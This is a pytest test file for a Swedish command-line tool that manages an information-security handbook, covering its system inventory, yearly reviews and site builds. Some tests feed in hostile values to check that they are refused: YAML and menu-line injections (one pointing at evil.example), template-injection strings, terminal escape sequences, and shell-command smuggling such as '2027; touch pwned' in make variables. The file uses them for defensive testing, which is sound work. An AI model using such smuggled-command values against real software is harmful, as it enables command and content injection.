    code, out, err = lis(capsys, "nytt-system", "nytt-x", "--namn", "Nytt", "--objekt", "ekonomi")
    assert code == 0, err
    assert "Ta bort # framför i_drift_sedan, klassningsprotokoll och klassning när uppgifterna finns" in out
    after = path.read_text(encoding="utf-8")
    assert after.startswith(before + "\n\n  - id: nytt-x\n")
    classification = ("    # Ta bort # framför raderna nedan när uppgifterna finns, och fyll i dem:\n"
                      "    # i_drift_sedan: ÄNDRA  # ÅÅÅÅ-MM-DD, dag då systemet togs i drift\n"
                      "    # klassningsprotokoll: ÄNDRA  # ÅÅÅÅ-MM-DD, dag för klassningsprotokollet\n"
                      "    # klassning:\n"
                      "    #   datum: ÄNDRA  # ÅÅÅÅ-MM-DD, dag då klassningen fastställdes\n"
                      "    #   K: ÄNDRA  # Konfidentialitet, 0–4\n"
                      "    #   R: ÄNDRA  # Riktighet, 0–4\n"
                      "    #   T: ÄNDRA  # Tillgänglighet, 0–4\n"
                      "    #   S: ÄNDRA  # Spårbarhet, 0–4 (kan utelämnas)\n")
    assert classification in after
    # Taken in as the comment says, the classification is part of the system.
    filled = after.replace(classification, "    i_drift_sedan: 2026-01-15\n    klassningsprotokoll: 2026-02-01\n"
                           "    klassning:\n      datum: 2026-03-01\n      K: 2\n      R: 1\n      T: 3\n")
    for field, value in [("syfte", "Test."), ("systemägare", "Ekonomichef"), ("leverantör", "Test AB"),
                         ("stadsgemensamt", "nej"), ("personuppgifter", "vanliga"), ("samhällsviktig", "nej"),
                         ("pub_avtal", "ej aktuellt"), ("krävs", "nej")]:
        filled = re.sub(rf"^(\s+{field}): ÄNDRA(  #.*)?$", rf"\1: {value}", filled, count=1, flags=re.M)
    path.write_text(filled, encoding="utf-8")
    system = next(s for s in load_handbook(example_project / "data").systems if s.id == "nytt-x")
    assert (system.in_use_since, system.protocol, system.classification.k, system.classification.t) == (
        date(2026, 1, 15), date(2026, 2, 1), 2, 3)
    # A file written without blank lines between its entries gets none either.
    path.write_text(re.sub(r"\n\n+", "\n", before) + "\n", encoding="utf-8")
    assert lis(capsys, "nytt-system", "nytt-y", "--namn", "Y", "--objekt", "ekonomi")[0] == 0
    assert "\n\n" not in path.read_text(encoding="utf-8").split("system:\n", 1)[1]


@pytest.mark.parametrize(("flag", "value", "message"), [
    ("--namn", "Rad\n    leverantör: Ond AB", "Fel: --namn får inte innehålla radbrytningar, tabbar eller andra "
                                               "styrtecken; ingenting har ändrats"),
    ("--namn", "a\u2028b", "Fel: --namn får inte innehålla radbrytningar"),
    ("--namn", "", "Fel: --namn får inte vara tom; ingenting har ändrats"),
    ("--namn", "   ", "Fel: --namn får inte vara tom"),
])
def test_nytt_system_refuses_line_breaks_and_empty_names(project, capsys, flag, value, message):
    before = snapshot(project)
    code, _, err = lis(capsys, "nytt-system", "nytt-x", flag, value, "--objekt", "ekonomi")
    assert code == 1 and err.startswith(message)
    assert snapshot(project) == before


def test_scaffolding_fills_empty_lists(example_project, capsys):
    system_yaml = example_project / "data/system.yaml"
    empty_inventory(example_project / "data")
    assert lis(capsys, "nytt-system", "forsta", "--namn", "Första", "--objekt", "ekonomi")[0] == 0
    data, problems = read_yaml_file(system_yaml, "system.yaml")
    assert problems == [] and [s["id"] for s in data["system"]] == ["forsta"]
    reviews = example_project / "data/genomgangar.yaml"
    reviews.write_text(reviews.read_text(encoding="utf-8").split("genomgångar:\n")[0] + "genomgångar: []\n",
                       encoding="utf-8")
    system_yaml.write_text(system_yaml.read_text(encoding="utf-8").split("system:\n")[0] + "system: []\n",
                           encoding="utf-8")
    for year in ("2025", "2026"):
        (example_project / f"docs/ledningens-genomgang/{year}.md").unlink()
        replace_in(example_project / "mkdocs.yml", f"      - ledningens-genomgang/{year}.md\n", "")
    code, _, err = lis(capsys, "ny-genomgang", "2026")
    assert code == 0, err
    data, problems = read_yaml_file(reviews, "genomgangar.yaml")
    assert problems == [] and data["genomgångar"] == [{"år": 2026, "status": "pågår"}]
    assert "      - ledningens-genomgang/2026.md\n" in (example_project / "mkdocs.yml").read_text(encoding="utf-8")


@pytest.mark.parametrize("title", ["Kontinuitet: plan", "#Hemlig", "{{ 7*7 }}", "{% if x %}", "- punkt",
                                   "Ja", "[lista]", "*alias", "Plan & <b>fet</b>"])
@pytest.mark.process
def test_ny_rutin_writes_any_title_safely(example_project, capsys, title):
    code, _, err = lis(capsys, "ny-rutin", "ny", "--titel", title)
    assert code == 0, err
    page = (example_project / "docs/rutiner/ny.md").read_text(encoding="utf-8")
    front, line = split_front_matter(page)
    meta, problems = parse_yaml(front or "", "ny.md", line)
    assert problems == [] and meta["title"] == title
    body = page.split("---", 2)[2]
    assert "{{" not in body and "{%" not in body and "{#" not in body
    assert (title, "rutiner/ny.md") in navcheck.nav_entries(example_project)
    assert navcheck.check_mkdocs_yml(example_project) == []
    assert lis(capsys, "kontrollera")[0] == 0


def test_ny_rutin_refuses_a_menu_injection(project, capsys):
    before = snapshot(project)
    code, _, err = lis(capsys, "ny-rutin", "ny", "--titel", "Rad\n  - Ond: https://evil.example")
    assert code == 1 and err.startswith("Fel: --titel får inte innehålla radbrytningar")
    assert snapshot(project) == before


@pytest.mark.parametrize("year", ["3000", "-5", "0", "1999", "2028"])
def test_ny_genomgang_refuses_unreasonable_years(project, capsys, year):
    before = snapshot(project)
    code, _, err = lis(capsys, "ny-genomgang", "--", year)
    assert code == 1
    assert err == (f"Fel: {year} är inget rimligt år för en ny genomgång; tillåtet är 2025–2027 (från den tidigaste "
                   "genomgången i data/genomgangar.yaml till året efter dagens datum). Ingenting har ändrats.\n")
    assert snapshot(project) == before


def test_a_failed_check_after_writing_rolls_everything_back(example_project, capsys, monkeypatch):
    monkeypatch.setattr(scaffold.navcheck, "nav_entries", lambda root: [])  # as if the menu line were lost
    before = snapshot(example_project)
    code, _, err = lis(capsys, "ny-genomgang", "2027")
    assert code == 1
    assert err == "Fel: kontrollen efter skrivningen misslyckades (menyn i mkdocs.yml); ändringen är ångrad\n"
    assert snapshot(example_project) == before


def menu_line(root: Path, text: str) -> int:
    """The line of mkdocs.yml that is `text` (the menu moves as pages are added; the test finds its line)."""
    lines = [n for n, line in enumerate((root / "mkdocs.yml").read_text(encoding="utf-8").splitlines(), start=1)
             if line == text.rstrip("\n")]
    assert len(lines) == 1, f"mkdocs.yml: {text!r} on lines {lines}"
    return lines[0]


@pytest.mark.parametrize(("old", "new", "message"), [
    ("      - PUB-avtal: rutiner/pub-avtal.md\n", "      - PUB-avtal: rutiner/finns-inte.md\n",
     'menyn (nav) pekar på "rutiner/finns-inte.md", som inte finns i docs/'),
    ("      - PUB-avtal: rutiner/pub-avtal.md\n", "      - PUB-avtal: plan: rutiner/pub-avtal.md\n",
     "ett kolon står där det inte får stå"),
    ("      - PUB-avtal: rutiner/pub-avtal.md\n", "      - #PUB-avtal: rutiner/pub-avtal.md\n",
     "menyraden pekar inte på någon sida"),
    ("      - PUB-avtal: rutiner/pub-avtal.md\n", "      - {{ 7*7 }}: rutiner/pub-avtal.md\n",
     "menyradens rubrik är ingen text"),
])
@pytest.mark.process
def test_kontrollera_checks_mkdocs_yml(example_project, capsys, old, new, message):
    replace_in(example_project / "mkdocs.yml", old, new)
    expected = f"  - mkdocs.yml, rad {menu_line(example_project, new)}: {message}"
    code, _, err = lis(capsys, "kontrollera")
    assert code == 1
    assert expected in err.splitlines() or any(line.startswith(expected) for line in err.splitlines())


# --- 5. Publishing ----------------------------------------------------------------------------------


def _fake_mkdocs(version: str):
    def build(root: Path, site: Path, edition: object = None) -> None:
        site.mkdir(parents=True, exist_ok=True)
        (site / "index.html").write_text(f"<html><body>{version}</body></html>", encoding="utf-8")
        (site / version).mkdir()
        (site / version / "index.html").write_text('<a href="../index.html">start</a>', encoding="utf-8")
    return build


def test_bygg_survives_leftovers_and_reports_what_it_cannot_delete(project, capsys, monkeypatch):
    monkeypatch.setattr(publish.search_index, "index_site", lambda site: None)  # Pagefind is a process
    (project / ".site-nytt").mkdir()
    (project / ".site-gammalt" / "x").mkdir(parents=True)  # the old fixed names, not empty
    monkeypatch.setattr(publish, "mkdocs_build", _fake_mkdocs("v1"))
    code, out, err = lis(capsys, "bygg")
    assert (code, out) == (0, "Byggde personalutgåvan (2 sidor) till site/ och LIS-utgåvan (2 sidor) till site-lis/; länkarna är "
                          "kontrollerade.\n"), err
    assert not (project / ".site-nytt").exists() and not (project / ".site-gammalt").exists()
    real_rmtree = shutil.rmtree

    def stubborn(path, *args, **kwargs):
        if Path(path).name.startswith(".site-gammalt"):  # as if a root-owned file were inside
            error = PermissionError(13, "Permission denied", str(path))
            handler = kwargs.get("onexc") or kwargs.get("onerror")
            handler(os.rmdir, str(path), error if "onexc" in kwargs else (PermissionError, error, None))
            return
        real_rmtree(path, *args, **kwargs)

    monkeypatch.setattr(publish.shutil, "rmtree", stubborn)
    monkeypatch.setattr(publish, "mkdocs_build", _fake_mkdocs("v2"))
    code, out, err = lis(capsys, "bygg")
    assert code == 0, err
    lines = out.splitlines()
    assert lines[0] == ("Byggde personalutgåvan (2 sidor) till site/ och LIS-utgåvan (2 sidor) till site-lis/; "
                        "länkarna är kontrollerade.")
    assert re.fullmatch(r"Varning: .*/\.site-gammalt-\w+ kunde inte tas bort \(behörighet saknas .*\); ta bort den "
                        r"för hand\. Den stör inte kommande byggen\.", lines[1])
    monkeypatch.setattr(publish, "mkdocs_build", _fake_mkdocs("v3"))
    code, out, err = lis(capsys, "bygg")  # the undeletable folder does not stop the next build
    assert code == 0, err
    assert (project / "site/v3/index.html").exists() and not (project / "site/v2").exists()


def test_bygg_publishes_nothing_when_one_editions_links_are_broken(project, capsys, monkeypatch):
    monkeypatch.setattr(publish.search_index, "index_site", lambda site: None)  # Pagefind is a process
    monkeypatch.setattr(publish, "mkdocs_build", _fake_mkdocs("v1"))
    assert lis(capsys, "bygg")[0] == 0
    before = snapshot(project)
    good = _fake_mkdocs("v2")

    def lis_edition_broken(root: Path, site: Path, edition: object = None) -> None:
        good(root, site, edition)
        if edition is Audience.LIS:  # the link check runs beside the other edition's build: still caught
            (site / "v2" / "index.html").write_text('<a href="../saknas/">borta</a>', encoding="utf-8")
    monkeypatch.setattr(publish, "mkdocs_build", lis_edition_broken)
    code, out, err = lis(capsys, "bygg")
    assert (code, out) == (1, "")
    assert err.startswith("Fel: länkkontrollen hittade fel i LIS-utgåvan:\n  - v2/index.html")
    assert snapshot(project) == before  # neither edition was published


def test_bygg_updates_the_folder_a_site_link_points_to(project, capsys, monkeypatch, tmp_path):
    monkeypatch.setattr(publish.search_index, "index_site", lambda site: None)  # Pagefind is a process
    www = tmp_path / "www"
    www.mkdir()
    (www / "gammal.html").write_text("gammal", encoding="utf-8")  # not written by lis bygg: never deleted
    (project / "site").symlink_to(www)
    monkeypatch.setattr(publish, "mkdocs_build", _fake_mkdocs("v1"))
    code, out, err = lis(capsys, "bygg")
    assert (code, out) == (1, "")
    assert err == (f"Fel: {www} är inte tom, och lis bygg har ingen anteckning om att den har byggt något där (till "
                   "exempel gammal.html). Bygget tar aldrig bort något som det inte själv har skrivit. Innehåller "
                   "mappen bara ett bygge från en äldre version av handboken, töm den en gång; annars välj en tom "
                   "mapp. Bygg sedan igen. Ingenting har ändrats.\n")
    assert [p.name for p in www.iterdir()] == ["gammal.html"]
    (www / "gammal.html").unlink()
    for _ in range(2):
        code, out, err = lis(capsys, "bygg")
        assert code == 0, err
        assert out == (f"Byggde personalutgåvan (2 sidor) till site/ (länk till {www}) och LIS-utgåvan (2 sidor) "
                       "till site-lis/; länkarna är kontrollerade.\n")
    assert (project / "site").is_symlink() and (project / "site").resolve() == www
    assert sorted(p.name for p in www.iterdir()) == ["index.html", "v1"]
    assert sorted(p.name for p in project.iterdir() if p.name.startswith(".site")) == []


def test_bygg_refuses_while_another_build_runs(project, capsys, monkeypatch):
    monkeypatch.setattr(publish.search_index, "index_site", lambda site: None)  # Pagefind is a process
    monkeypatch.setattr(publish, "mkdocs_build", _fake_mkdocs("v1"))
    assert lis(capsys, "bygg")[0] == 0
    before = snapshot(project)
    with (project / lock.LOCK_NAME).open("a") as other:
        fcntl.flock(other, fcntl.LOCK_EX | fcntl.LOCK_NB)
        code, _, err = lis(capsys, "bygg")
    assert (code, err) == (1, "Fel: ett annat lis-kommando (till exempel ett bygge eller en import) arbetar redan i "
                              "den här mappen; vänta tills det är klart och försök igen. Ingenting har ändrats.\n")
    assert snapshot(project) == before


def lock_is_held(project: Path) -> bool:
    """Whether some process holds the build lock of `project` (tried without waiting, released at once)."""
    with (project / lock.LOCK_NAME).open("a") as probe:
        try:
            fcntl.flock(probe, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except BlockingIOError:
            return True
        fcntl.flock(probe, fcntl.LOCK_UN)
        return False


@pytest.mark.build
def test_two_real_builds_at_once(project):
    lis_command = [str(Path(sys.executable).parent / "lis"), "bygg"]
    env = {**os.environ, "LIS_DATE": LIS_DATE, "NO_MKDOCS_2_WARNING": "1"}
    first = subprocess.Popen(lis_command, cwd=project, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                             text=True)
    try:
        # The first build is paused while it holds the lock, so the second surely starts during it
        # (polling alone let a fast first build finish before the second began).
        while True:
            assert first.poll() is None, "the first build ended before it was seen holding the lock"
            first.send_signal(signal.SIGSTOP)
            if lock_is_held(project):
                break
            first.send_signal(signal.SIGCONT)
            time.sleep(0.05)
        second = subprocess.run(lis_command, cwd=project, env=env, capture_output=True, text=True, timeout=120)
        first.send_signal(signal.SIGCONT)
        out, err = first.communicate(timeout=600)
    finally:
        first.kill()
    assert (second.returncode, second.stderr) == (1, f"Fel: {lock.BUSY}\n")
    assert first.returncode == 0, err
    assert out.startswith("Byggde ") and (project / "site/index.html").exists()
    assert list(project.glob(".site-*")) == []


@pytest.mark.build
def test_bygg_reports_mkdocs_errors_in_swedish(example_project, capsys):
    heading = "\n## Utbilda ledningen\n"
    replace_in(example_project / "docs/utbildning.md", heading, "\n[trasig](finns-inte.md) {% if %}\n" + heading)
    code, _, err = lis(capsys, "bygg")
    assert code == 1
    assert "Traceback" not in err
    assert "docs/utbildning.md, rad 27: mallsyntaxen är fel: ett uttryck saknas (hittade end of statement block)" in err
    assert "Expected an expression" not in err


@pytest.mark.parametrize(("english", "swedish"), [
    ("WARNING -  Doc file 'utbildning.md' contains a link 'finns-inte.md', but the target is not found among "
     "documentation files.",
     'VARNING - sidan docs/utbildning.md länkar till "finns-inte.md", men den sidan eller filen finns inte'),
    ("Config value 'site_url': The URL isn't valid, it should include the http:// (scheme)",
     'mkdocs.yml, inställningen "site_url": adressen är inte giltig; den ska börja med https:// eller http://'),
    ("Config value 'nav': Expected nav item to be a string or dict, got None",
     'mkdocs.yml, inställningen "nav": varje rad i menyn (nav) ska vara en sida eller en rubrik med sidor, men en '
     "rad är tom"),
    ('  in "/srv/lis/mkdocs.yml", line 112, column 24', "  i /srv/lis/mkdocs.yml, rad 112, kolumn 24"),
    ("Aborted with 3 warnings in strict mode!", "Bygget avbröts: 3 varningar i strikt läge."),
    ("Aborted with a configuration error!", "Bygget avbröts: mkdocs.yml innehåller ett fel."),
    ("Expected an expression, got 'end of statement block'", "ett uttryck saknas (hittade end of statement block)"),
])
def test_known_mkdocs_messages_are_translated(english, swedish):
    assert translate(english) == swedish


def test_bygg_checks_the_menu_like_kontrollera(example_project, capsys):
    replace_in(example_project / "mkdocs.yml", "      - PUB-avtal: rutiner/pub-avtal.md\n", "      - PUB-avtal: plan: x.md\n")
    line = menu_line(example_project, "      - PUB-avtal: plan: x.md")
    code, _, err = lis(capsys, "bygg")
    assert code == 1
    assert err.splitlines()[1].startswith(f"  - mkdocs.yml, rad {line}: ett kolon står där det inte får stå")
    assert not (example_project / "site").exists()


def test_make_serve_shows_link_warnings_in_swedish(example_project):
    heading = "\n## Utbilda ledningen\n"
    replace_in(example_project / "docs/utbildning.md", heading, "\n[trasig](finns-inte.md)\n" + heading)
    built = build(example_project)
    assert built.returncode == 1
    assert 'sidan docs/utbildning.md länkar till "finns-inte.md", men den sidan eller filen finns inte' in built.output
    assert "contains a link" not in built.output


# --- 6. Swedish argument errors and one error boundary ----------------------------------------------


@pytest.mark.parametrize(("args", "message"), [
    (["foo"], "lis: fel: argumentet KOMMANDO: okänt val 'foo' (välj bland 'kontrollera', 'bygg',"),
    (["export", "--mapp"], "lis export: fel: argumentet --mapp: ett värde saknas"),
    (["kontrollera", "--x"], "lis: fel: okända argument: --x"),
    (["ny-genomgang", "abc"], "lis ny-genomgang: fel: argumentet ÅR: inget heltal: 'abc'"),
    # Python's int() reads other scripts' digits and underscores; a year is typed with 0-9 (issue 23, L2)
    (["ny-genomgang", "²"], "lis ny-genomgang: fel: argumentet ÅR: inget heltal: '²'"),
    (["ny-genomgang", "٢٠٢٧"], "lis ny-genomgang: fel: argumentet ÅR: inget heltal: '٢٠٢٧'"),
    (["faststall", "2025", "--beslutad-av", "namnd", "--datum", "２０２６-01-27", "--diarienummer", "X"],
     "lis faststall: fel: argumentet --datum: "),
    (["tillsyn", "--genomgang", "①"], "lis tillsyn: fel: argumentet --genomgang: inget heltal: '①'"),
    (["tillsyn", "--genomgang", "2025\0"], "lis tillsyn: fel: argumentet --genomgang: inget heltal: '2025\\x00'"),
    (["ny-genomgang", "9" * 5000], "lis ny-genomgang: fel: argumentet ÅR: inget heltal: '" + "9" * 40 + "'…"),
    (["nytt-system", "x"], "lis nytt-system: fel: de här argumenten saknas: --namn, --objekt"),
    ([], "lis: fel: de här argumenten saknas: KOMMANDO"),
])
def test_argument_errors_are_swedish(capsys, args, message):
    code, out, err = lis(capsys, *args)
    assert code == 2 and out == ""
    assert err.startswith("Användning: lis")
    assert message in err.splitlines()[-1]
    for english in ("usage:", "choose from", "expected one argument", "unrecognized arguments", "invalid choice",
                    "required", "error:"):
        assert english not in err


@pytest.mark.parametrize("args", [["nytt-system", "\x1b[31mröd\x1b[0m", "--namn", "N", "--objekt", "ekonomi"],
                                  ["ny-rutin", "x", "--titel", "\x1b]0;titel\x07"],
                                  ["import", "\u202eevil.csv"], ["\x1b[2J"]])
def test_terminal_control_sequences_are_shown_not_obeyed(project, capsys, args):
    code, out, err = lis(capsys, *args)
    assert code in (1, 2)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e]", out + err)
    assert re.search(r"\\u001b|\\x1b|\\u202e|styrtecken", err)  # shown as text, or refused by name


def test_help_is_swedish(capsys):
    code, out, _ = lis(capsys, "export", "--help")
    assert code == 0
    assert out.startswith("Användning: lis export") and "Flaggor:" in out and "visa den här hjälpen" in out
    assert "options:" not in out and "show this help" not in out


def test_a_bug_shows_as_a_bug_not_as_a_user_error(project, capsys, monkeypatch):
    def broken(root: Path, ahead: object = None) -> str:
        raise KeyError("intern")

    monkeypatch.setattr(cli, "check", broken)
    code, _, err = lis(capsys, "kontrollera")
    assert code == cli.BUG_EXIT
    assert "Traceback" in err and "KeyError: 'intern'" in err
    assert err.endswith("Fel: detta är ett fel i handboken, inte i dina uppgifter. Rapportera det (med texten ovan) "
                        "till den som förvaltar handboken.\n")


# --- 7. The sweep: hostile input through every documented command ----------------------------------

ENGLISH = re.compile(r"Traceback|\bError\b|error:|usage:|Warning|invalid|expected|not found|No such file|"
                     r"choose from|required|unrecognized|Aborted|Config value|Doc file|Exception")
SWEDISH = re.compile(r"\b(fel|är|inte|finns|saknas|får|ingenting|kan|ska|Skrev|Skapade|Lade|Importerade|Inga|"
                     r"Användning|Byggde|scheman|Uppdaterade)\b", re.I)


def tree(root: Path) -> dict[str, bytes]:
    """Every file under root except caches, the lock file and a linked virtual environment."""
    found = {}
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in ("__pycache__", ".venv")]
        for name in files:
            path = Path(folder) / name
            if name != ".lis-bygg.lock":
                found[path.relative_to(root).as_posix()] = path.read_bytes()
    return found


def restore(root: Path, saved: dict[str, bytes]) -> None:
    """Put the tree back as it was after a command that succeeded (so the next one starts clean)."""
    for rel in set(tree(root)) - set(saved):
        (root / rel).unlink()
    for rel, content in saved.items():
        if (root / rel).read_bytes() != content:
            (root / rel).write_bytes(content)


def assert_reported_well(code: int, out: str, err: str, what: str) -> None:
    shown = "\n".join(line for line in (out + err).splitlines() if not line.startswith(("make: ***", "make[")))
    assert code in (0, 1, 2), f"{what}: exit {code}\n{shown}"
    assert "Traceback" not in shown, f"{what}:\n{shown}"
    assert not ENGLISH.search(shown), f"{what}: English in\n{shown}"
    assert SWEDISH.search(shown), f"{what}: no Swedish message in\n{shown}"


SLOTS = {
    "nytt-system ID": lambda p: ["nytt-system", p, "--namn", "N", "--objekt", "ekonomi"],
    "nytt-system --namn": lambda p: ["nytt-system", "nytt-x", "--namn", p, "--objekt", "ekonomi"],
    "nytt-system --objekt": lambda p: ["nytt-system", "nytt-x", "--namn", "N", "--objekt", p],
    "ny-rutin FILNAMN": lambda p: ["ny-rutin", p, "--titel", "T"],
    "ny-rutin --titel": lambda p: ["ny-rutin", "ny", "--titel", p],
    "ny-genomgang ÅR": lambda p: ["ny-genomgang", p],
    "pdf ÅR": lambda p: ["pdf", p],
    "pdf --ut": lambda p: ["pdf", "2099", "--ut", p],
    "export --mapp": lambda p: ["export", "--mapp", p],
    "import FIL": lambda p: ["import", p],
    "tillsyn --ut": lambda p: ["tillsyn", "--genomgang", "2099", "--ut", p],  # 2099: refused before printing
    "tillsyn --mapp": lambda p: ["tillsyn", "--genomgang", "2099", "--mapp", p],
    "tillsyn --genomgang": lambda p: ["tillsyn", "--genomgang", p],
    "faststall DOKUMENT": lambda p: ["faststall", p, "--beslutad-av", "namnd", "--datum", "2026-01-27",
                                     "--diarienummer", "X"],
    "export --mapp --ersatt": lambda p: ["export", "--mapp", p, "--ersatt"],
    "import FIL --ersatt": lambda p: ["import", p, "--ersatt"],
    "pdf --ut --ersatt": lambda p: ["pdf", "2099", "--ut", p, "--ersatt"],
    "tillsyn --mapp --ersatt": lambda p: ["tillsyn", "--genomgang", "2099", "--mapp", p, "--ersatt"],
    "kontrollera": lambda p: ["kontrollera", p],
    "bygg": lambda p: ["bygg", p],
    "schema": lambda p: ["schema", p],
}


# `lis pdf` and `lis tillsyn` read the pages' git history and `lis export` stamps the version from git: those slots start git.
@pytest.mark.parametrize("slot", [pytest.param(s, marks=pytest.mark.process)
                                  if s.startswith(("pdf", "export", "tillsyn", "faststall")) else s for s in SLOTS])
@pytest.mark.sweep
def test_sweep_every_command_argument_with_hostile_input(project, capsys, slot):
    for payload in PAYLOADS:
        args = SLOTS[slot](payload)
        if slot.startswith("export --mapp") and payload.startswith("../../"):
            continue  # a folder outside the test's own copy: allowed, but not here
        before = tree(project)
        code, out, err = lis(capsys, *args)
        assert_reported_well(code, out, err, f"lis {args!r}")
        if code == 0:
            restore(project, before)
        else:
            assert tree(project) == before, f"lis {args!r} wrote something although it failed"


@pytest.mark.process
def test_sweep_hostile_data_values_through_kontrollera_and_export(project, capsys):
    system_yaml = project / "data/system.yaml"
    original = system_yaml.read_text(encoding="utf-8")
    fields = ("namn", "syfte", "leverantör")
    # A lone surrogate comes only from an argument's bytes; no UTF-8 file can hold one (its \\u escape in
    # YAML is refused with a Swedish message and the English original, by design).
    for i, payload in enumerate(p for p in PAYLOADS if not re.search("[\ud800-\udfff]", p)):
        field, value = fields[i % len(fields)], scalar(payload)
        text, count = re.subn(rf"^    {field}: .*$", lambda _, v=value, f=field: f"    {f}: {v}", original, count=1,
                              flags=re.M)
        assert count == 1
        system_yaml.write_text(text, encoding="utf-8")
        before = tree(project)
        for args in (["kontrollera"], ["export", "--mapp", "ut"]):
            code, out, err = lis(capsys, *args)
            assert_reported_well(code, out, err, f"{field}={payload!r}: lis {' '.join(args)}")
            if code == 0:
                restore(project, before)
            else:
                assert tree(project) == before
    system_yaml.write_text(original, encoding="utf-8")


def _hostile_sheet(path: Path, rows: list[list[str]]) -> bool:
    """Write rows as .csv or as .xlsx with text cells; False when the file cannot hold a value."""
    if any(re.search("[\ud800-\udfff]", v) for row in rows for v in row):
        return False  # a lone surrogate (an argument's non-UTF-8 byte) cannot be written to any file
    if path.suffix == ".csv":
        _rows_file(path, rows)
        return True
    book = Workbook()
    try:
        for row in rows:
            book.active.append(row)
    except IllegalCharacterError:  # no .xlsx file can hold these control characters
        return False
    for cell in book.active[2]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
    book.save(path)
    return True


@pytest.mark.process  # lis export stamps the handbook version from git
@pytest.mark.sweep
def test_sweep_hostile_spreadsheets_through_import(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    for i, payload in enumerate(PAYLOADS):
        column = (1, 0, 13)[i % 3]  # Namn, Id, K in turn; .csv and .xlsx in turn
        row = _new_row(rows, f"hostile-{i}", "Namn")
        row[column] = payload
        source = tmp_path / f"fientlig.{('csv', 'xlsx')[i // 3 % 2]}"
        if not _hostile_sheet(source, [rows[0], row]):
            continue
        before = tree(project)
        code, out, err = lis(capsys, "import", str(source))
        assert_reported_well(code, out, err, f"import {source.name} kolumn {column} = {payload!r}")
        if code == 0:
            assert load_handbook(project / "data").systems[-1].id == row[0].strip()  # cells are trimmed
            restore(project, before)
        else:
            assert tree(project) == before


def _make(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "LIS_DATE": LIS_DATE, "NO_MKDOCS_2_WARNING": "1"}
    return subprocess.run(["make", "--no-print-directory", *args], cwd=project, env=env, capture_output=True,
                          text=True, timeout=240)


def _with_make(project: Path) -> Path:
    """The project copy with the Makefile and the worktree's virtual environment (linked, not copied)."""
    for name in ("Makefile", "requirements.txt", "requirements-dev.txt", "pyproject.toml"):
        shutil.copy2(ROOT / name, project / name)
    (project / ".venv").symlink_to(ROOT / ".venv")
    os.utime(ROOT / ".venv/.installed")  # newer than the copied requirements: make installs nothing
    return project


@pytest.fixture
def make_project(project: Path) -> Path:
    return _with_make(project)


@pytest.fixture
def make_example_project(example_project: Path) -> Path:
    return _with_make(example_project)


@pytest.mark.build
def test_make_pdf_of_a_page_works_as_readme_prints_it(make_project):
    """`make pdf SIDA=...` with no AR: GNU make's predefined AR ("ar") must not shadow the page."""
    env = {key: value for key, value in os.environ.items() if key not in ("AR", "SIDA", "ERSATT")}
    env |= {"LIS_DATE": LIS_DATE, "NO_MKDOCS_2_WARNING": "1"}
    result = subprocess.run(["make", "--no-print-directory", "pdf", "SIDA=rutiner/incidenthantering"],
                            cwd=make_project, env=env, capture_output=True, text=True, timeout=240)
    assert result.returncode == 0, result.stderr
    assert "ar" not in re.findall(r"\"(\w+)\"", result.stderr)
    assert (make_project / "pdf/rutiner-incidenthantering.pdf").is_file(), result.stdout


@pytest.mark.build
def test_sweep_make_targets(make_example_project, tmp_path):
    example_project = make_example_project
    started = time.monotonic()
    for payload in ["", "2027; touch pwned", "$(touch pwned) '\"", "3000"]:
        for target in ("ny-genomgang", "pdf"):
            before = tree(example_project)
            result = _make(example_project, target, f"AR={payload}")
            assert_reported_well(result.returncode and 1, result.stdout, result.stderr, f"make {target} AR={payload!r}")
            assert not (example_project / "pwned").exists(), f"make {target} AR={payload!r} ran a shell command"
            if result.returncode == 0:
                restore(example_project, before)
            else:
                assert tree(example_project) == before
    replaced = _make(example_project, "pdf", "AR=2099", "ERSATT=1")  # the flag reaches lis before the year
    assert "Fel: Det finns ingen genomgång för 2099" in replaced.stderr, replaced.stderr
    # kontrollera and build on data full of hostile text (every payload in a system's free text)
    system_yaml = example_project / "data/system.yaml"
    text = system_yaml.read_text(encoding="utf-8")
    for payload in (p for p in PAYLOADS if p.strip() and not re.search(r"\d{6}-\d{4}", p)):
        text, count = re.subn(r"^(    syfte: )(?!\")(.*)$", lambda m, p=payload: m.group(1) + scalar(p), text,
                              count=1, flags=re.M)
        if not count:
            break
    system_yaml.write_text(text, encoding="utf-8")
    checked = _make(example_project, "kontrollera")
    assert checked.returncode == 0, checked.stderr
    assert_reported_well(0, checked.stdout, checked.stderr, "make kontrollera")
    built = _make(example_project, "build")
    assert built.returncode == 0, built.stdout + built.stderr
    assert_reported_well(0, built.stdout, built.stderr, "make build")
    # a broken menu: make build fails in Swedish and leaves site/ as it was
    site = tree(example_project / "site")
    replace_in(example_project / "mkdocs.yml", "      - PUB-avtal: rutiner/pub-avtal.md\n", "      - PUB-avtal: plan: x.md\n")
    broken = _make(example_project, "build")
    assert broken.returncode != 0
    assert_reported_well(1, broken.stdout, broken.stderr, "make build med trasig mkdocs.yml")
    assert tree(example_project / "site") == site
    assert time.monotonic() - started < 240
